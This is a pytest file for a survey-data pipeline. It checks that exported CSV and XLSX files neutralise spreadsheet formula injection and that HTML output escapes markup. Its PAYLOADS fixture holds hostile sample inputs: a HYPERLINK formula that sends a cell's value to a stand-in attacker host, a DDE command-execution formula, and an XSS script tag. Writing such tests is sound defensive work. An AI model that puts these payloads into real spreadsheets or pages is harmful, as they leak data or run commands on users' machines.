"""Formula injection is neutralised in CSV and XLSX; survey text is escaped for HTML."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from pipeline.privacy import (
    FORMULA_STARTS,
    html_text,
    neutralise_formula,
    neutralise_formulas,
    write_public_csv,
    write_public_xlsx,
)

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "surveys" / "demo"

PAYLOADS = [
    "=SOM(A1:A3) is wat de penningmeester zegt",
    "+31 is het landnummer",
    "-10% subsidie",
    "@gemeente: waar blijft het antwoord?",
    "\tKolom1",
    "\rregel",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
    "=cmd|' /C calc'!A0",
]


def _demo_texts() -> list[str]:
    """Every answer text of both demo exports that a spreadsheet would read as a formula."""
    found = []
    for name in ("ronde-1", "ronde-2"):
        path = DEMO / name / "exports" / "responses_csv_code_short_all.csv"
        with open(path, encoding="utf-8-sig", newline="") as f:
            for row in csv.DictReader(f, delimiter=";"):
                found += [v for v in row.values() if v and v[0] in "=+-@\t\r"]
    return found


def test_the_demo_exports_hold_hostile_cells() -> None:
    starts = {text[0] for text in _demo_texts()}
    assert {"=", "+", "-", "@"} <= starts


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_formula_prefixes_an_apostrophe(payload: str) -> None:
    assert neutralise_formula(payload) == "'" + payload


@pytest.mark.parametrize("value", ["gewoon tekst", "", 42, -3.5, None, "a=b", " =spatie eerst"])
def test_harmless_values_are_unchanged(value: object) -> None:
    assert neutralise_formula(value) == value


def test_neutralise_formulas_covers_cells_headers_and_labels_and_keeps_the_input() -> None:
    frame = pd.DataFrame(
        {"=kop": pd.array(["=1+1", "ok", pd.NA], dtype="string"), "getal": [-1.0, 2.0, 3.0]},
        index=pd.Index(["@a", "b", "c"], name="groep"),
    )
    before = frame.copy()
    safe = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert list(safe.columns) == ["'=kop", "getal"]
    assert safe.iloc[0, 0] == "'=1+1" and safe.iloc[1, 0] == "ok" and pd.isna(safe.iloc[2, 0])
    assert safe["getal"].tolist() == [-1.0, 2.0, 3.0]  # numbers stay numbers
    assert safe.index.tolist() == ["'@a", "b", "c"]
    assert safe["'=kop"].dtype == frame["=kop"].dtype


def _hostile_frame() -> pd.DataFrame:
    texts = _demo_texts() + PAYLOADS
    return pd.DataFrame({"tekst": pd.array(texts, dtype="string"), "n": range(len(texts))})


def test_public_csv_has_no_cell_that_starts_a_formula(tmp_path: Path) -> None:
    frame = _hostile_frame()
    path = write_public_csv(frame, tmp_path / "data" / "citaten.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["tekst", "n"]
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) - 1 == len(frame)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    # the text itself is kept, behind the apostrophe
    assert [row[0] for row in rows[1:]] == ["'" + t for t in frame["tekst"]]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    assert not list(tmp_path.glob("data/.*"))  # no temporary file left behind


def test_public_csv_is_byte_identical_on_rerun(tmp_path: Path) -> None:
    frame = _hostile_frame()
    one = write_public_csv(frame, tmp_path / "a.csv").read_bytes()
    two = write_public_csv(frame, tmp_path / "b.csv").read_bytes()
    assert one == two


def test_public_xlsx_holds_text_not_formulas(tmp_path: Path) -> None:
    frame = _hostile_frame()
    frame.loc[len(frame)] = ["bel\x07 me", 99]  # a control character Excel cannot hold
    path = write_public_xlsx(frame, tmp_path / "citaten.xlsx")
    workbook = load_workbook(path)
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    assert header == ["tekst", "n"]
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(values) == len(frame)
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert not [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
    assert values[0] == "'" + frame["tekst"].iloc[0]
    assert values[-1] == "bel me"
    numbers = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert numbers[:3] == [0, 1, 2]


def test_public_xlsx_is_byte_identical_on_rerun(tmp_path: Path) -> None:
    frame = _hostile_frame()
    one = write_public_xlsx(frame, tmp_path / "a.xlsx").read_bytes()
    two = write_public_xlsx(frame, tmp_path / "b.xlsx").read_bytes()
    assert one == two


def test_html_text_makes_markup_inert() -> None:
    hostile = "<script>alert('xss')</script> De <b>aanvraag</b> is &amp; <a href=\"http://example.org\">link</a>"
    escaped = html_text(hostile)
    assert "<" not in escaped and ">" not in escaped and '"' not in escaped
    assert escaped.startswith("&lt;script&gt;alert(&#x27;xss&#x27;)")
    assert "&amp;amp;" in escaped  # the literal "&amp;" in the answer is shown as typed
    assert html_text(pd.NA) == "" and html_text(None) == ""
